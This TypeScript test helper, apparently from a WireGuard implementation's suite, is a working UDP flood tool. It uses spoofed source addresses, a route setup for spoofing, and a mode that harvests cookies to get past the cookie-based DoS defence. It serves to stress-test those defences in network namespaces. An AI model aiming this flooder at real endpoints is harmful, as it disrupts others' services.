/**
 * A WireGuard attacker: floods a victim's UDP port with handshake initiations or transport
 * messages at a set rate, from many spoofed source addresses through one socket.
 *
 * Run as a script inside the attacker's namespace
 * (`ip netns exec NS <node 24> flood.ts '<FloodConfig as JSON>'`), it prints one JSON line per
 * event on stdout — `ready`, (`cookies`,) `flooding`, `progress` every reportMs, `done` — and stops
 * after durationMs / count datagrams, or at SIGTERM/SIGINT (still printing `done`).
 *
 * Spoofing: give the attacker namespace a local route over a whole range
 * (`ip route add local 198.18.128.0/17 dev lo`; spoofRange() below does both ends), and every
 * address of it is a valid source and receives the victim's replies. Each datagram's 40-byte
 * address record sets its source (IP_PKTINFO, see src/tun/README.md), so one sendmmsg batch
 * carries datagrams from up to 64 different addresses.
 *
 * Modes:
 * - `mac1`: initiations from a fresh random identity with a valid MAC1 (the attacker knows the
 *   victim's public key) and no MAC2: real X25519 work for the victim unless it answers with
 *   cookies. A pool of distinct initiations (src/noise createInitiation + CookieGenerator.addMacs)
 *   is reused round-robin.
 * - `mac2`: first collects a cookie for every source (MAC1-only initiations until the victim, under
 *   load, answers each source with a cookie reply, which the attacker can decrypt since it knows
 *   the victim's public key and receives at the spoofed address), then floods initiations carrying
 *   a valid MAC2 for their source: they pass the cookie check and only the per-source rate limit
 *   stands between them and X25519.
 * - `bad-mac1`: initiation-sized type-1 messages with random bytes (MAC1 wrong).
 * - `transport`: type-4 messages for random receiver indices with random payloads.
 *
 * Imported, it exports Flood (start the script in a namespace through a NetnsBed, read its
 * events, stop it), spoofRange(), and the /proc readers the attack tests use.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { generatePrivateKey } from '../../../src/cli/keys.ts';
import { CookieGenerator } from '../../../src/noise/cookie.ts';
import { defaultBackend } from '../../../src/noise/crypto/index.ts';
import { mac } from '../../../src/noise/crypto/blake2s.ts';
import { tai64nFromUnixMs } from '../../../src/noise/crypto/tai64n.ts';
import { createHandshakeState, createInitiation, createPeerKeys, createStaticIdentity } from '../../../src/noise/handshake.ts';
import { COOKIE_REPLY_LENGTH, CookieReply, Initiation, INITIATION_LENGTH, MESSAGE_COOKIE_REPLY, MESSAGE_INITIATION, readU32 } from '../../../src/noise/messages.ts';
import { ADDRESS_RECORD_SIZE, LOCAL_IP_OFFSET, writeEndpointString, writeLocal } from '../../../src/tun/address.ts';
import { UdpSocket } from '../../../src/tun/udp-socket.ts';
import { keyFromBase64 } from '../../../src/util/hex.ts';
import type { NetnsBed, TrackedProcess } from './netns.ts';
import { waitFor } from './netns.ts';

export type FloodMode = 'mac1' | 'mac2' | 'bad-mac1' | 'transport';

export interface FloodConfig {
  readonly mode: FloodMode;
  /** The victim, host:port (IPv4). */
  readonly target: string;
  /** base64; needed for mac1 and mac2. */
  readonly victimPublicKey?: string;
  /** First spoofed source address (IPv4); unset: the kernel picks the source (no spoofing). */
  readonly sourceBase?: string;
  /** Number of consecutive source addresses from sourceBase, used round-robin. Default 1. */
  readonly sourceCount?: number;
  /** Datagrams per second; 0: as fast as the socket takes them. */
  readonly rate: number;
  /** Stop after this long (the flood phase; cookie collection not included). */
  readonly durationMs?: number;
  /** Stop after this many datagrams. */
  readonly count?: number;
  /** Local UDP port (default 0: the kernel's choice). */
  readonly port?: number;
  /** Distinct messages reused round-robin (default 64). */
  readonly pool?: number;
  /** transport mode: datagram length (default 128, at least 32). */
  readonly transportLength?: number;
  /** mac2 mode: give up collecting cookies after this long (default 20 s). */
  readonly cookieTimeoutMs?: number;
  /** mac2 mode: flood once this share of the sources has a cookie (default 0.95). */
  readonly cookieShare?: number;
  /**
   * Read what comes back (counted in `received`). Default: only in mac2 mode, which needs the
   * cookies; otherwise the socket is never read — no wake-up per reply — and, once its buffer is
   * full, the kernel drops the victim's answers.
   */
  readonly receive?: boolean;
  /** Period of `progress` events (default 1000 ms). */
  readonly reportMs?: number;
}

export interface FloodProgress {
  readonly event: 'progress';
  readonly sent: number;
  readonly ms: number;
}

export interface FloodDone {
  readonly event: 'done';
  readonly mode: FloodMode;
  /** Datagrams the kernel took in the flood phase. */
  readonly sent: number;
  /** Refused by the kernel for that datagram alone (sendBatch stats[0]). */
  readonly dropped: number;
  /** Sent without their spoofed source because the kernel refused it (stats[2]; should be 0). */
  readonly unsourced: number;
  readonly elapsedMs: number;
  /** sent / elapsed, datagrams per second. */
  readonly rate: number;
  /** Distinct source addresses used. */
  readonly sources: number;
  /** Datagrams received back during the flood phase, by WireGuard message type ("3": cookie replies); empty unless `receive`. */
  readonly received: Record<string, number>;
  /** mac2 mode: sources that had a cookie, and how long collecting them took. */
  readonly cookieSources?: number;
  readonly cookieMs?: number;
}

export type FloodEvent =
  | { readonly event: 'ready'; readonly port: number; readonly pool: number }
  | { readonly event: 'cookies'; readonly sources: number; readonly ms: number; readonly sent: number }
  | { readonly event: 'flooding' }
  | FloodProgress
  | FloodDone;

// ---------------------------------------------------------------------------------------------
// The test side.

export const FLOOD_SCRIPT = fileURLToPath(import.meta.url);

/** The flood script running in a namespace, tracked by the bed. */
export class Flood {
  readonly process: TrackedProcess;
  readonly config: FloodConfig;

  private constructor(proc: TrackedProcess, config: FloodConfig) {
    this.process = proc;
    this.config = config;
  }

  /** Starts it in ns; resolves once it is flooding (for mac2: after collecting cookies). */
  static async start(bed: NetnsBed, ns: string, config: FloodConfig, readyTimeoutMs = 30_000): Promise<Flood> {
    const proc = bed.spawn(ns, process.execPath, ['--disable-warning=ExperimentalWarning', FLOOD_SCRIPT, JSON.stringify(config)]);
    const flood = new Flood(proc, config);
    try {
      await waitFor(
        () => {
          if (flood.find('flooding') || flood.find('done')) return true;
          if (proc.hasExited()) throw new Error(`flood exited before flooding:\n${proc.output()}`);
          return false;
        },
        { timeoutMs: readyTimeoutMs, intervalMs: 10, what: `the ${config.mode} flood to start` },
      );
    } catch (err) {
      await bed.stop(proc);
      throw err;
    }
    return flood;
  }

  /** Every event printed so far. */
  events(): FloodEvent[] {
    const out: FloodEvent[] = [];
    for (const line of this.process.output().split('\n')) {
      if (!line.startsWith('{')) continue;
      try {
        out.push(JSON.parse(line) as FloodEvent);
      } catch {
        // a line cut by the output buffer's limit
      }
    }
    return out;
  }

  find<E extends FloodEvent['event']>(event: E): Extract<FloodEvent, { event: E }> | undefined {
    return this.events().findLast((e) => e.event === event) as Extract<FloodEvent, { event: E }> | undefined;
  }

  /** Waits for the flood to end by itself (durationMs / count) and returns its summary. */
  async done(timeoutMs = 60_000): Promise<FloodDone> {
    await waitFor(() => this.process.hasExited(), { timeoutMs, intervalMs: 20, what: `the ${this.config.mode} flood to finish` });
    return this.summary();
  }

  /** SIGTERM; resolves with the summary it prints on the way out. */
  async stop(): Promise<FloodDone> {
    if (!this.process.hasExited()) process.kill(this.process.pid, 'SIGTERM');
    await this.process.exited;
    return this.summary();
  }

  private summary(): FloodDone {
    const done = this.find('done');
    if (!done) throw new Error(`flood ended without a summary:\n${this.process.output().slice(-4000)}`);
    return done;
  }
}

/**
 * Makes every address of range (an IPv4 prefix) a local address of the attacker's namespace and
 * routes it, in the victim's, to the attacker (via its underlay address), so spoofed datagrams
 * reach the victim and its answers come back to the attacker's socket.
 */
export async function spoofRange(bed: NetnsBed, options: { attacker: string; victim: string; range: string; via: string }): Promise<void> {
  await bed.exec(options.attacker, 'ip', ['route', 'add', 'local', options.range, 'dev', 'lo']);
  // ARP for the victim from the attacker's own address, not from a spoofed one.
  await bed.exec(options.attacker, 'sysctl', ['-q', '-w', 'net.ipv4.conf.all.arp_announce=2']);
  await bed.exec(options.victim, 'ip', ['route', 'add', options.range, 'via', options.via]);
}

/** Clock ticks per second of /proc/<pid>/stat times (USER_HZ; 100 on Linux). */
export const CLOCK_TICKS = 100;

/** utime + stime of a process (all its threads), in seconds. */
export function cpuSeconds(pid: number): number {
  const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
  // Fields after the command name (which may hold spaces) in parentheses: state is field 3.
  const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
  return (Number(fields[11]) + Number(fields[12])) / CLOCK_TICKS;
}

/** The Udp: line of /proc/net/snmp inside ns (InDatagrams, RcvbufErrors, …). */
export async function udpCounters(bed: NetnsBed, ns: string): Promise<Record<string, number>> {
  const text = (await bed.exec(ns, 'cat', ['/proc/net/snmp'])).stdout;
  const lines = text.split('\n').filter((l) => l.startsWith('Udp: '));
  const names = lines[0]!.split(/\s+/).slice(1);
  const values = lines[1]!.split(/\s+/).slice(1).map(Number);
  return Object.fromEntries(names.map((n, i) => [n, values[i]!]));
}

// ---------------------------------------------------------------------------------------------
// The script side.

const BATCH = 64;
/** Most datagrams sent in one go when behind schedule, in ms of the rate. */
const MAX_BURST_MS = 10;
/** Fewest initiations per round of cookie collection (the victim's under-load mark is 128 queued). */
const COOKIE_BURST = 2048;

function ipv4ToU32(text: string): number {
  const parts = text.split('.').map(Number);
  if (parts.length !== 4 || parts.some((p) => !Number.isInteger(p) || p < 0 || p > 255)) throw new Error(`not an IPv4 address: ${text}`);
  return ((parts[0]! << 24) | (parts[1]! << 16) | (parts[2]! << 8) | parts[3]!) >>> 0;
}

function emit(event: FloodEvent): void {
  process.stdout.write(JSON.stringify(event) + '\n');
}

interface Pool {
  /** Messages back to back, `length` bytes each. */
  readonly slab: Uint8Array;
  readonly length: number;
  readonly count: number;
  /** mac1/mac2: sender index → message number. */
  readonly bySender: Map<number, number>;
}

function buildPool(config: FloodConfig, size: number): Pool {
  const backend = defaultBackend();
  const random = (n: number): Uint8Array => {
    const out = new Uint8Array(n);
    backend.randomBytes(out);
    return out;
  };
  const bySender = new Map<number, number>();
  if (config.mode === 'mac1' || config.mode === 'mac2') {
    if (!config.victimPublicKey) throw new Error(`${config.mode} needs victimPublicKey`);
    const victim = keyFromBase64(config.victimPublicKey);
    const attacker = createStaticIdentity(backend, generatePrivateKey());
    const keys = createPeerKeys(backend, attacker, victim);
    const macs = new CookieGenerator(backend, keys.mac1Key, keys.cookieKey);
    const slab = new Uint8Array(size * INITIATION_LENGTH);
    const timestamp = new Uint8Array(12);
    for (let i = 0; i < size; i++) {
      const msg = slab.subarray(i * INITIATION_LENGTH, (i + 1) * INITIATION_LENGTH);
      const sender = readU32(random(4), 0) || 1;
      tai64nFromUnixMs(timestamp, Date.now(), i);
      const made = createInitiation(backend, attacker, keys, createHandshakeState(), { ephemeralPrivate: random(32), timestamp, senderIndex: sender }, msg);
      if (!made.ok) throw new Error(`createInitiation: ${made.error}`);
      macs.addMacs(msg, MESSAGE_INITIATION, performance.now());
      bySender.set(sender, i);
    }
    return { slab, length: INITIATION_LENGTH, count: size, bySender };
  }
  if (config.mode === 'bad-mac1') {
    const slab = random(size * INITIATION_LENGTH);
    for (let i = 0; i < size; i++) slab.set([1, 0, 0, 0], i * INITIATION_LENGTH);
    return { slab, length: INITIATION_LENGTH, count: size, bySender };
  }
  const length = Math.max(32, config.transportLength ?? 128);
  const slab = random(size * length);
  for (let i = 0; i < size; i++) slab.set([4, 0, 0, 0], i * length);
  return { slab, length, count: size, bySender };
}

async function main(config: FloodConfig): Promise<void> {
  const socket = UdpSocket.bind(config.port ?? 0, { family: 4, offload: false });
  const pool = buildPool(config, Math.max(1, config.pool ?? 64));
  const sourceBase = config.sourceBase === undefined ? undefined : ipv4ToU32(config.sourceBase);
  const sourceCount = sourceBase === undefined ? 1 : Math.max(1, config.sourceCount ?? 1);
  const backend = defaultBackend();
  const cookieKey =
    config.victimPublicKey === undefined
      ? undefined
      : createPeerKeys(backend, createStaticIdentity(backend, generatePrivateKey()), keyFromBase64(config.victimPublicKey)).cookieKey;

  // Send-side buffers: one record per slot, remote fixed, local (the spoofed source) per datagram.
  const offsets = new Int32Array(BATCH);
  const lengths = new Int32Array(BATCH).fill(pool.length);
  const addrs = new Uint8Array(BATCH * ADDRESS_RECORD_SIZE);
  for (let i = 0; i < BATCH; i++) {
    writeEndpointString(addrs, i, config.target);
    if (sourceBase !== undefined) writeLocal(addrs, i, '0.0.0.0');
  }
  const stats = new Int32Array(3);
  let dropped = 0;
  let unsourced = 0;

  // Receive side: count what comes back; in mac2 mode keep each source's cookie.
  const received: Record<string, number> = {};
  const cookies = new Map<number, Uint8Array>();
  const recvSlab = new Uint8Array(BATCH * 2048);
  const recvLengths = new Int32Array(BATCH);
  const recvAddrs = new Uint8Array(BATCH * ADDRESS_RECORD_SIZE);
  const cookie = new Uint8Array(16);
  const onReadable = (): void => {
    for (;;) {
      const n = socket.recvBatch(recvSlab, 2048, recvLengths, recvAddrs, BATCH);
      if (n === 0) return;
      for (let i = 0; i < n; i++) {
        const at = i * 2048;
        const length = recvLengths[i]!;
        if (length < 4) continue;
        const type = String(recvSlab[at]);
        received[type] = (received[type] ?? 0) + 1;
        if (config.mode !== 'mac2' || !cookieKey || recvSlab[at] !== MESSAGE_COOKIE_REPLY || length !== COOKIE_REPLY_LENGTH) continue;
        const msg = recvSlab.subarray(at, at + length);
        const index = pool.bySender.get(readU32(msg, CookieReply.receiver));
        if (index === undefined) continue;
        const mac1 = pool.slab.subarray(index * pool.length + Initiation.mac1, index * pool.length + Initiation.mac2);
        const opened = backend.xaeadOpen(cookie, cookieKey, msg.subarray(CookieReply.nonce, CookieReply.cookie), msg.subarray(CookieReply.cookie), mac1);
        if (opened < 0) continue;
        // The reply went to the spoofed source it answers: the local half of its record.
        const r = i * ADDRESS_RECORD_SIZE + LOCAL_IP_OFFSET + 12;
        const source = ((recvAddrs[r]! << 24) | (recvAddrs[r + 1]! << 16) | (recvAddrs[r + 2]! << 8) | recvAddrs[r + 3]!) >>> 0;
        cookies.set(source, Uint8Array.from(cookie));
      }
    }
  };
  if (config.receive ?? config.mode === 'mac2') socket.onReadable(onReadable);

  let stopping = false;
  const stopWaiters: (() => void)[] = [];
  const stop = (): void => {
    stopping = true;
    for (const w of stopWaiters.splice(0)) w();
  };
  process.on('SIGTERM', stop);
  process.on('SIGINT', stop);
  emit({ event: 'ready', port: socket.port, pool: pool.count });

  /**
   * Sends `total` datagrams (Infinity: until stopped or durationMs) at `rate`, datagram k being
   * message pick(k) from source source(k); resolves with how many went and how long it took.
   */
  const run = (
    slab: Uint8Array,
    total: number,
    durationMs: number,
    pick: (k: number) => number,
    source: (k: number) => number | undefined,
    progress: boolean,
  ): Promise<{ sent: number; ms: number }> =>
    new Promise((resolve) => {
      const start = performance.now();
      let sent = 0;
      let nextReport = start + (config.reportMs ?? 1000);
      let timer: NodeJS.Timeout | undefined;
      const finish = (): void => {
        if (timer) clearTimeout(timer);
        resolve({ sent, ms: performance.now() - start });
      };
      stopWaiters.push(finish);
      const tick = (): void => {
        timer = undefined;
        if (stopping) return;
        const now = performance.now();
        if (sent >= total || now - start >= durationMs) {
          stopWaiters.splice(stopWaiters.indexOf(finish), 1);
          finish();
          return;
        }
        if (progress && now >= nextReport) {
          emit({ event: 'progress', sent, ms: Math.round(now - start) });
          nextReport += config.reportMs ?? 1000;
        }
        let due = config.rate > 0 ? Math.floor((config.rate * (now - start)) / 1000) - sent : BATCH * 16;
        // After a stall (this process descheduled) catch up at most MAX_BURST_MS worth at a time,
        // so the victim sees a steady rate, not a burst the size of the stall.
        if (config.rate > 0) due = Math.min(due, Math.max(BATCH, Math.ceil((config.rate * MAX_BURST_MS) / 1000)));
        due = Math.min(due, total - sent);
        while (due > 0) {
          const n = Math.min(due, BATCH);
          for (let i = 0; i < n; i++) {
            const k = sent + i;
            offsets[i] = pick(k) * pool.length;
            const ip = source(k);
            if (ip !== undefined) {
              const r = i * ADDRESS_RECORD_SIZE + LOCAL_IP_OFFSET + 12;
              // ::ffff:a.b.c.d (the ffff again, in case the kernel refused a source and the
              // record's local half was zeroed)
              addrs[r - 2] = 0xff;
              addrs[r - 1] = 0xff;
              addrs[r] = ip >>> 24;
              addrs[r + 1] = (ip >>> 16) & 0xff;
              addrs[r + 2] = (ip >>> 8) & 0xff;
              addrs[r + 3] = ip & 0xff;
            }
          }
          const consumed = socket.sendBatch(slab, offsets, lengths, addrs, n, stats);
          dropped += stats[0]!;
          unsourced += stats[2]!;
          sent += consumed;
          due -= consumed;
          if (consumed < n) {
            // Socket buffer full: continue once it drains (the unsent ones are rebuilt then).
            socket.onWritable(tick);
            return;
          }
        }
        timer = config.rate > 0 ? setTimeout(tick, 1) : (setImmediate(tick) as unknown as NodeJS.Timeout);
      };
      tick();
    });

  const bySource = (k: number): number | undefined => (sourceBase === undefined ? undefined : (sourceBase + (k % sourceCount)) >>> 0);
  let slab = pool.slab;
  let pick = (k: number): number => k % pool.count;
  let source = bySource;
  let cookieSources: number | undefined;
  let cookieMs: number | undefined;

  if (config.mode === 'mac2') {
    if (sourceBase === undefined) throw new Error('mac2 needs sourceBase/sourceCount (each source needs its own cookie)');
    // Ask from every source still without a cookie, round after round, until enough have one.
    const wanted = Math.ceil(sourceCount * (config.cookieShare ?? 0.95));
    const deadline = performance.now() + (config.cookieTimeoutMs ?? 20_000);
    const started = performance.now();
    let asked = 0;
    while (cookies.size < wanted && performance.now() < deadline && !stopping) {
      const missing: number[] = [];
      for (let i = 0; i < sourceCount; i++) if (!cookies.has((sourceBase + i) >>> 0)) missing.push((sourceBase + i) >>> 0);
      // At least COOKIE_BURST per round, so the victim's queue reaches its under-load mark even
      // when few sources are left (it sends cookies only under load).
      const total = Math.max(missing.length, COOKIE_BURST);
      const round = await run(pool.slab, total, deadline - performance.now(), (k) => k % pool.count, (k) => missing[k % missing.length], false);
      asked += round.sent;
      // Let the answers to this round arrive before asking again.
      await new Promise((r) => setTimeout(r, 200));
    }
    cookieSources = cookies.size;
    cookieMs = Math.round(performance.now() - started);
    emit({ event: 'cookies', sources: cookies.size, ms: cookieMs, sent: asked });
    if (cookies.size === 0) throw new Error('no cookie collected: was the victim under load?');
    // One message per source with a cookie: MAC2 over the message up to MAC2, keyed by its cookie.
    const list = [...cookies.keys()];
    const perSource = new Uint8Array(list.length * pool.length);
    list.forEach((ip, s) => {
      const msg = perSource.subarray(s * pool.length, (s + 1) * pool.length);
      const p = s % pool.count;
      msg.set(pool.slab.subarray(p * pool.length, (p + 1) * pool.length));
      mac(msg.subarray(Initiation.mac2, Initiation.mac2 + 16), cookies.get(ip)!, msg.subarray(0, Initiation.mac2));
    });
    slab = perSource;
    pick = (k) => k % list.length;
    source = (k) => list[k % list.length];
    for (const key of Object.keys(received)) delete received[key];
  }

  emit({ event: 'flooding' });
  const flood = await run(slab, config.count ?? Infinity, config.durationMs ?? Infinity, pick, source, true);
  // Answers to the last datagrams are still on their way.
  await new Promise((r) => setTimeout(r, 100));
  socket.close();
  const sources = config.mode === 'mac2' ? (cookieSources ?? 0) : Math.min(sourceCount, flood.sent);
  emit({
    event: 'done',
    mode: config.mode,
    sent: flood.sent,
    dropped,
    unsourced,
    elapsedMs: Math.round(flood.ms),
    rate: Math.round(flood.sent / Math.max(flood.ms / 1000, 1e-3)),
    sources,
    received,
    ...(cookieSources === undefined ? {} : { cookieSources, cookieMs }),
  });
  process.exit(0);
}

if (import.meta.main) {
  const text = process.argv[2];
  if (!text) {
    process.stderr.write("usage: flood.ts '<FloodConfig JSON>'\n");
    process.exit(2);
  }
  main(JSON.parse(text) as FloodConfig).catch((err: Error) => {
    process.stderr.write(`flood: ${err.stack ?? err.message}\n`);
    process.exit(1);
  });
}
